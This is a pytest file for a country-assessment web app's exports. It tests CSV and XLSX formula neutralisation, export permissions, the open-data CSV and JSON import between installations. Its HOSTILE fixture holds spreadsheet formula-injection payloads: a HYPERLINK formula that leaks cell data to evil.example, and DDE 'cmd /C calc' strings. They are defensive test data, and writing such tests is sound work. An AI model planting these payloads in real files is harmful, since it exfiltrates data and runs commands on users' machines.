"""Exports: answers (CSV, XLSX) with hostile cells neutralised, the scores workbook, the open-data
CSV of consenting countries, and the complete JSON export that another installation imports
back into the same assessment."""

from __future__ import annotations

import copy
import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from assessment import create_app
from assessment.migrations import upgrade
from assessment.models import (
    Action,
    Answer,
    Assessment,
    Review,
    ReviewRating,
    State,
    User,
    ValidatedScore,
)
from assessment.services import assessments as service
from assessment.services import comments, evidence
from assessment.services.interchange import ImportError_, export_assessment, import_assessment
from tests.conftest import World, login

HOSTILE = {
    "evidence": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "comment": "+cmd|' /C calc'!A0",
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "minus": "-2+3",
}
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def _answer(session: Session, app: Flask, world: World, question: str, **fields) -> None:  # noqa: ANN003
    framework = app.extensions["frameworks"].current
    assessment = session.get(Assessment, world.assessment.id)
    result = service.save_answers(
        session,
        framework,
        assessment,
        session.get(User, world.focal.id),
        [service.AnswerInput(question_id=question, expected_version=0, **fields)],
    )
    assert result.saved == [question], result


def _hostile_answers(session: Session, app: Flask, world: World) -> None:
    _answer(
        session,
        app,
        world,
        "SEC-1.1",
        level=3,
        confidence="low",
        evidence=HOSTILE["evidence"],
        comment=HOSTILE["comment"],
    )
    _answer(session, app, world, "SEC-1.2", status="unknown", reason=HOSTILE["reason"])
    _answer(session, app, world, "JUS-1.1", level=1)
    # Saving strips leading white space; a row written otherwise (an older version, an
    # import) may still begin with a tab or a carriage return.
    stored = session.scalar(select(Answer).where(Answer.question_id == "JUS-1.1"))
    stored.evidence, stored.comment = HOSTILE["tab"], HOSTILE["cr"]
    session.commit()
    _answer(session, app, world, "ARC-1.1", level=2, evidence=HOSTILE["minus"])


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_answers_csv_neutralises_formulas(
    app: Flask, client: FlaskClient, world: World, session: Session
) -> None:
    _hostile_answers(session, app, world)
    login(client, world.focal.email)
    response = client.get(f"/en/assessments/{world.assessment.id}/export/answers.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _rows(response.data)
    header, body = rows[0], rows[1:]
    for column in ("G (government level)", "P (peer review median)", "Confidence", "Evidence"):
        assert column in header
    by_question = {row[header.index("Question")]: row for row in body}
    sec = by_question["SEC-1.1"]
    assert sec[header.index("G (government level)")] == "3"
    assert sec[header.index("Confidence")] == "Low"
    assert sec[header.index("Evidence")] == "'" + HOSTILE["evidence"]
    assert sec[header.index("Comment")] == "'" + HOSTILE["comment"]
    assert by_question["SEC-1.2"][header.index("Reason")] == "'" + HOSTILE["reason"]
    assert by_question["JUS-1.1"][header.index("Evidence")] == "'" + HOSTILE["tab"]
    assert by_question["JUS-1.1"][header.index("Comment")] == "'" + HOSTILE["cr"]
    assert by_question["ARC-1.1"][header.index("Evidence")] == "'" + HOSTILE["minus"]
    # No cell of the file starts a formula.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_answers_xlsx_holds_text_never_formulas_in_the_chosen_language(
    app: Flask, client: FlaskClient, world: World, session: Session
) -> None:
    _hostile_answers(session, app, world)
    login(client, world.focal.email)
    response = client.get(f"/fr/assessments/{world.assessment.id}/export/answers.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + HOSTILE["evidence"] in texts and "'" + HOSTILE["tab"] in texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    header = [c.value for c in sheet[1]]
    assert "Indicator name" not in header and "Evidence" not in header  # French headers
    assert len(header) == 19
    english = app.extensions["frameworks"].current.question("SEC-1.1").text
    french_texts = {c.value for c in sheet["E"]}
    assert english not in french_texts  # the questions in French too


def test_scores_workbook_has_domains_indicators_and_gaps(
    app: Flask, client: FlaskClient, world: World, session: Session
) -> None:
    _hostile_answers(session, app, world)
    login(client, world.focal.email)
    response = client.get(f"/en/assessments/{world.assessment.id}/export/scores.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Domains", "Indicators", "Priority gaps"]
    gaps = list(book["Priority gaps"].iter_rows(values_only=True))
    header = gaps[0]
    priorities = [row[header.index("Priority")] for row in gaps[1:]]
    assert priorities == sorted(priorities, reverse=True) and priorities
    jus = next(row for row in gaps[1:] if row[header.index("Indicator")] == "JUS-1")
    assert jus[header.index("G")] == 1 and jus[header.index("Gap")] >= 2


def test_exports_are_for_those_who_see_the_results(
    client: FlaskClient, world: World, session: Session
) -> None:
    base = f"/en/assessments/{world.assessment.id}/export"
    login(client, world.other_focal.email)
    for name in ("answers.csv", "answers.xlsx", "scores.xlsx", "assessment.json"):
        assert client.get(f"{base}/{name}").status_code == 404
    client.post("/en/logout")  # fresh session below
    reviewer = client.application.test_client()
    login(reviewer, world.reviewer.email)  # blind review, not yet submitted
    assert reviewer.get(f"{base}/answers.csv").status_code == 403
    contributor = client.application.test_client()
    login(contributor, world.contributor.email)
    assert contributor.get(f"{base}/answers.csv").status_code == 200
    assert contributor.get(f"{base}/assessment.json").status_code == 403
    page = contributor.get(f"/en/assessments/{world.assessment.id}/results")
    assert "export/answers.csv" in page.text and "assessment.json" not in page.text


def test_open_data_lists_only_consenting_countries_final_scores(
    app: Flask, client: FlaskClient, world: World, session: Session
) -> None:
    _hostile_answers(session, app, world)
    home = session.get(Assessment, world.assessment.id)
    other = session.get(Assessment, world.other_assessment.id)
    home.state = other.state = State.VALIDATED.value
    home.country.shares_results = True  # the other country has not agreed
    session.commit()
    response = client.get("/api/v1/open-data/domain-scores.csv")  # public, no login
    assert response.status_code == 200
    rows = _rows(response.data)
    header, body = rows[0], rows[1:]
    assert {row[header.index("country_iso")] for row in body} == {"XV"}
    assert {row[header.index("domain")] for row in body} >= {"SEC", "JUS"}
    sec = next(row for row in body if row[header.index("domain")] == "SEC")
    assert float(sec[header.index("score")]) > 0
    text = response.data.decode("utf-8-sig")
    for private in (world.focal.name, world.focal.email, "HYPERLINK", "calc"):
        assert private not in text
    home.state = State.DRAFT.value  # drafts are not published
    session.commit()
    assert len(_rows(client.get("/api/v1/open-data/domain-scores.csv").data)) == 1


def _rich_assessment(app: Flask, world: World, session: Session) -> Assessment:
    """An assessment with something in every part the export carries."""
    _hostile_answers(session, app, world)
    _answer(session, app, world, "SEC-1.3", value="12", evidence="Décret n° 12 — دليل 证据")
    assessment = session.get(Assessment, world.assessment.id)
    focal = session.get(User, world.focal.id)
    framework = app.extensions["frameworks"].current
    service.set_triggers(session, framework, assessment, focal, {"CTX-1"}, {"CTX-1": "border"})
    first = comments.add(session, assessment, "SEC-1.1", focal, "Is the law in force?", None, "en")
    comments.add(session, assessment, "SEC-1.1", focal, "Since 2024.", first.id, "en")
    evidence.store(
        session,
        app.extensions["evidence_store"],
        assessment,
        "SEC-1.1",
        focal,
        io.BytesIO(PNG),
        "photo.png",
        1024 * 1024,
    )
    moment = datetime(2026, 5, 1, 12, 30, tzinfo=UTC)
    review = Review(
        assessment_id=assessment.id,
        reviewer_id=world.reviewer.id,
        organisation="Observatoire civique",
        invited_by_id=world.focal.id,
        created_at=moment,
        submitted_at=moment,
    )
    review.ratings = [
        ReviewRating(
            question_id="SEC-1.1", level=1, justification="Not applied", updated_at=moment
        ),
        ReviewRating(question_id="SEC-1.2", status="unknown", reason="No data", updated_at=moment),
    ]
    session.add(review)
    session.add(
        ValidatedScore(
            assessment_id=assessment.id,
            indicator_id="SEC-1",
            outcome="validated",
            level=2,
            note="Agreed at the workshop",
            recorded_by_id=world.facilitator.id,
            recorded_at=moment,
        )
    )
    session.add(
        Action(
            assessment_id=assessment.id,
            title="Train the police",
            owner="Ministry of the Interior",
            deadline=date(2027, 1, 31),
            status="in_progress",
            indicator_ids=["SEC-1"],
            created_by_id=world.focal.id,
            created_at=moment,
            updated_at=moment,
        )
    )
    assessment.targets = {"JUS-1": 4}
    assessment.state = State.VALIDATED.value
    assessment.submitted_at = moment
    session.commit()
    return assessment


@pytest.fixture
def second_installation(tmp_path: Path):  # noqa: ANN201
    """Another installation: its own SQLite database and evidence folder, migrated empty."""
    other = create_app(
        {
            "TESTING": True,
            "DATABASE_URL": f"sqlite:///{tmp_path / 'second.db'}",
            "SECRET_KEY": "second",
            "EVIDENCE_DIR": str(tmp_path / "evidence"),
            "REPORT_CACHE_DIR": str(tmp_path / "reports"),
        }
    )
    with other.app_context():
        upgrade(other.extensions["database"].engine)
    yield other
    other.extensions["database"].engine.dispose()


def _without_moment(document: dict) -> dict:
    document = copy.deepcopy(document)
    document.pop("exported_at")
    return document


def test_the_json_export_round_trips_to_another_installation(
    app: Flask, client: FlaskClient, world: World, session: Session, second_installation: Flask
) -> None:
    assessment = _rich_assessment(app, world, session)
    login(client, world.focal.email)
    response = client.get(f"/en/assessments/{assessment.id}/export/assessment.json")
    assert response.status_code == 200
    before = json.loads(response.data)
    assert len(before["answers"]) == 5 and len(before["comments"]) == 2
    assert before["comments"][1]["reply_to"] == before["comments"][0]["ref"]
    assert len(before["evidence_files"]) == 1 and before["reviews"][0]["ratings"]

    database = second_installation.extensions["database"]
    with database.session() as other_session:
        imported = import_assessment(
            other_session,
            second_installation.extensions["frameworks"],
            before,
            second_installation.extensions["evidence_store"],
        )
        after = export_assessment(
            other_session, imported, second_installation.extensions["evidence_store"]
        )
        assert _without_moment(after) == _without_moment(before)
        # The same scores on both installations.
        framework = second_installation.extensions["frameworks"].current
        there = service.score(other_session, framework, imported)
        here = service.score(session, framework, session.get(Assessment, assessment.id))
        assert there == here
        # People it did not know are recorded, but cannot log in until invited.
        reviewer = other_session.scalar(select(User).where(User.email == world.reviewer.email))
        assert reviewer is not None and reviewer.active is False
        # A second import of the same assessment is refused, and writes nothing.
        with pytest.raises(ImportError_, match="already has"):
            import_assessment(
                other_session,
                second_installation.extensions["frameworks"],
                before,
                second_installation.extensions["evidence_store"],
            )
        assert len(other_session.scalars(select(Assessment)).all()) == 1


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda d: d.update(format="something-else"), "not an assessment export"),
        (lambda d: d["answers"][0].update(question_id="XXX-9.9"), "does not have"),
        (lambda d: d["answers"][0].update(level=7), "answers.0.level"),
        (lambda d: d["answers"][0].update(level=None, value="many"), "does not fit"),
        (lambda d: d["answers"].append(d["answers"][0]), "twice in answers"),
        (lambda d: d["evidence_files"][0].update(content="AAAA"), "damaged"),
        (lambda d: d["assessment"].update(framework_version="9.9.9"), "no framework version"),
        (lambda d: d["comments"][1].update(reply_to=99), "threads"),
    ],
)
def test_a_damaged_export_is_refused_with_a_clear_error(
    app: Flask,
    world: World,
    session: Session,
    second_installation: Flask,
    change,  # noqa: ANN001
    message: str,
) -> None:
    assessment = _rich_assessment(app, world, session)
    document = export_assessment(session, assessment, app.extensions["evidence_store"])
    change(document)
    with second_installation.extensions["database"].session() as other_session:
        with pytest.raises(ImportError_, match=message):
            import_assessment(
                other_session,
                second_installation.extensions["frameworks"],
                document,
                second_installation.extensions["evidence_store"],
            )
        assert other_session.scalars(select(Assessment)).all() == []
    assert not list(second_installation.extensions["evidence_store"].names())


def test_the_command_line_exports_and_imports(
    app: Flask, world: World, session: Session, second_installation: Flask, tmp_path: Path
) -> None:
    assessment = _rich_assessment(app, world, session)
    target = tmp_path / "export.json"
    written = app.test_cli_runner().invoke(
        args=["interchange", "export", str(assessment.id), "--output", str(target)]
    )
    assert written.exit_code == 0, written.output
    assert json.loads(target.read_text())["assessment"]["cycle"] == "2026"
    runner = second_installation.test_cli_runner()
    imported = runner.invoke(args=["interchange", "import", str(target)])
    assert imported.exit_code == 0, imported.output
    assert "XV 2026 (validated)" in imported.output
    again = runner.invoke(args=["interchange", "import", str(target)])
    assert again.exit_code != 0 and "already has" in again.output
    garbage = tmp_path / "garbage.json"
    garbage.write_text("{not json")
    refused = runner.invoke(args=["interchange", "import", str(garbage)])
    assert refused.exit_code != 0 and "not JSON" in refused.output

    session.get(Assessment, assessment.id).country.shares_results = True
    session.commit()
    csv_file = tmp_path / "open.csv"
    opened = app.test_cli_runner().invoke(
        args=["interchange", "open-data", "--output", str(csv_file)]
    )
    assert opened.exit_code == 0, opened.output
    assert _rows(csv_file.read_bytes())[1][0] == "XV"
